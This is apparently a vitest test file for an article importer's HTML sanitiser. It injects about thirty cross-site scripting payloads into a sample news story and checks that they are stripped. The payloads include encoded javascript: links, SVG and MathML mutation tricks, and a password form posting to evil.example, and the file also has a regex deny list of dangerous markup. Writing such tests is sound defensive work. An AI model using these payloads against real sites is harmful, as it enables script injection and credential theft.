import { readFile } from 'node:fs/promises'
import { join } from 'node:path'
import { JSDOM } from 'jsdom'
import { describe, expect, it } from 'vitest'
import { extractArticle } from '../../../../main/core/import/html/htmlArticle'
import { withoutImages } from '../../../../main/core/import/html/offlineImages'
import { webFixtures } from '../../web/localSite'

/** What may appear in stored article HTML, and which attributes each element may carry. */
const ALLOWED: Record<string, readonly string[]> = {
  a: ['href', 'rel', 'title'],
  img: ['src', 'alt', 'title'],
  td: ['colspan', 'rowspan', 'title'],
  th: ['colspan', 'rowspan', 'title'],
  ol: ['start', 'title'],
  ...Object.fromEntries(
    'p h2 h3 h4 ul li blockquote em strong b i u s sub sup code pre figure figcaption table thead tbody tfoot tr caption br hr'
      .split(' ')
      .map((t) => [t, ['title']]),
  ),
}

type Stage = 'draft' | 'stored'

/** Every element allow-listed, every attribute allowed for it, every URL of an allowed kind. */
function expectSafe(html: string, stage: Stage): void {
  const container = new JSDOM('<!doctype html><article></article>').window.document.querySelector('article') as HTMLElement
  container.innerHTML = html
  for (const el of Array.from(container.querySelectorAll('*'))) {
    expect(Object.keys(ALLOWED), `element <${el.localName}>`).toContain(el.localName)
    for (const attr of Array.from(el.attributes)) {
      expect(ALLOWED[el.localName], `attribute ${attr.name} on <${el.localName}>`).toContain(attr.name)
    }
    if (el.localName === 'a') {
      if (el.hasAttribute('href')) expect(el.getAttribute('href')).toMatch(/^https?:\/\//)
      expect(el.getAttribute('rel')).toBe('noopener noreferrer')
    }
    if (el.localName === 'img') {
      expect(el.getAttribute('src')).toMatch(stage === 'draft' ? /^(?:https?:\/\/|data:image\/[\w.+-]+;base64,)/ : /^media\/[a-z0-9]{16}\/[0-9a-f]{16}\.(?:png|jpg|gif|webp|avif)$/)
    }
  }
  expect(html).not.toMatch(/javascript:|vbscript:|srcdoc|http-equiv|<script|<svg|<math|<iframe|<base|<form|<input|<button|<style|style=|<link|<meta|<object|<embed|<template|<noscript|\son[a-z]+=/i)
  if (stage === 'stored') expect(html).not.toMatch(/data:/i)
}

const story =
  '<p>The harbour authority approved plans on Thursday for a stone breakwater to shelter the fishing fleet from winter storms, after three seasons in which boats were damaged at their moorings.</p>' +
  '<p>Engineers said construction would begin in the dry season and take about eighteen months, with the old wooden pier kept open for passengers until the new one is ready.</p>'

const attacks: [string, string][] = [
  ['script element', `<script>alert('x')</script>`],
  ['event handler on an image', `<img src="https://img.example/a.png" onerror="alert('x')">`],
  ['event handlers on text', `<p onclick="alert('x')" onmouseover="alert('y')">Click text</p>`],
  ['javascript: link', `<a href="javascript:alert('x')">link</a>`],
  ['javascript: link with odd case and spaces', `<a href="  JaVaScRiPt:alert('x')">link</a>`],
  ['javascript: link hidden by a tab', `<a href="java&#x09;script:alert('x')">link</a>`],
  ['javascript: link hidden by an entity', `<a href="&#106;avascript:alert('x')">link</a>`],
  ['vbscript: link', `<a href="vbscript:msgbox('x')">link</a>`],
  ['data: link', `<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgneCcpPC9zY3JpcHQ+">link</a>`],
  ['data: SVG image', `<img src="data:image/svg+xml;base64,${Buffer.from('<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)">' + ' '.repeat(300) + '</svg>').toString('base64')}">`],
  ['SVG with script', `<svg><script>alert('x')</script><text>svg text</text></svg>`],
  ['SVG with onload', `<svg onload="alert('x')"><circle r="4"/></svg>`],
  ['SVG link with xlink:href', `<svg><a xlink:href="javascript:alert('x')"><text>go</text></a></svg>`],
  ['MathML mutation XSS', `<math><mtext><table><mglyph><style><img src=x onerror="alert('x')"></style></mglyph></table></mtext></math>`],
  ['iframe srcdoc', `<iframe srcdoc="<script>alert('x')</script>"></iframe>`],
  ['iframe with javascript: src', `<iframe src="javascript:alert('x')"></iframe>`],
  ['meta refresh', `<meta http-equiv="refresh" content="0;url=javascript:alert('x')">`],
  ['base element', `<base href="javascript:alert('x')//">`],
  ['form with fields and formaction', `<form action="https://evil.example/steal"><input name="password" autofocus onfocus="alert('x')"><button formaction="javascript:alert('x')">Send</button><textarea>t</textarea><select><option>o</option></select></form>`],
  ['object and embed', `<object data="javascript:alert('x')"></object><embed src="javascript:alert('x')">`],
  ['inline style', `<p style="background:url(javascript:alert('x'))">styled text</p>`],
  ['style element', `<style>@import 'https://evil.example/x.css'; body{background:red}</style>`],
  ['stylesheet link', `<link rel="stylesheet" href="https://evil.example/x.css">`],
  ['noscript mutation XSS', `<noscript><p title="</noscript><img src=x onerror=alert('x')>">n</p></noscript>`],
  ['template content', `<template><script>alert('x')</script></template>`],
  ['details ontoggle', `<details open ontoggle="alert('x')"><summary>More</summary>details text</details>`],
  ['media with handlers', `<video><source onerror="alert('x')"></video><audio src="https://evil.example/a.mp3" onplay="alert('y')"></audio>`],
  ['custom element with handler', `<x-widget onclick="alert('x')">widget text</x-widget>`],
  ['link target and ping', `<a href="https://ok.example/" target="_blank" ping="https://track.example/">fine link</a>`],
  ['srcset with javascript:', `<img src="https://img.example/b.png" srcset="javascript:alert('x') 1x">`],
  ['ids, classes and data attributes (DOM clobbering)', `<p id="createElement" class="x" data-x="y" name="attributes">plain text</p><img name="getElementById" src="https://img.example/c.png">`],
]

describe('sanitising hostile pages', () => {
  describe.each([
    ['with Readability', true],
    ['as feed content (sanitiser alone)', false],
  ])('%s', (_mode, readable) => {
    it.each(attacks)('removes %s', (_name, attack) => {
      const page = `<!doctype html><html><head><title>Harbour authority approves a new breakwater</title></head><body><article>${story}${attack}${story}</article></body></html>`
      const draft = extractArticle(page, { url: 'https://harbour.example/news/breakwater', readable })
      expectSafe(draft.htmlWithRemoteImages, 'draft')
      expectSafe(withoutImages(draft.htmlWithRemoteImages).html, 'stored')
      expect(draft.paragraphs.join(' ')).toContain('stone breakwater')
    })
  })

  it('removes every attack of a page that carries them all, keeping the story', async () => {
    const html = await readFile(join(webFixtures, 'pages', 'hostile.html'), 'utf8')
    for (const readable of [true, false]) {
      const draft = extractArticle(html, { url: 'https://harbour.example/news/breakwater', readable })
      expectSafe(draft.htmlWithRemoteImages, 'draft')
      expectSafe(withoutImages(draft.htmlWithRemoteImages).html, 'stored')
      expect(draft.paragraphs.join(' ')).toContain('The authority will hold a public meeting')
      expect(draft.htmlWithRemoteImages).toContain('<a href="https://harbour.example/plans" rel="noopener noreferrer">The published plans</a>')
    }
  })
})
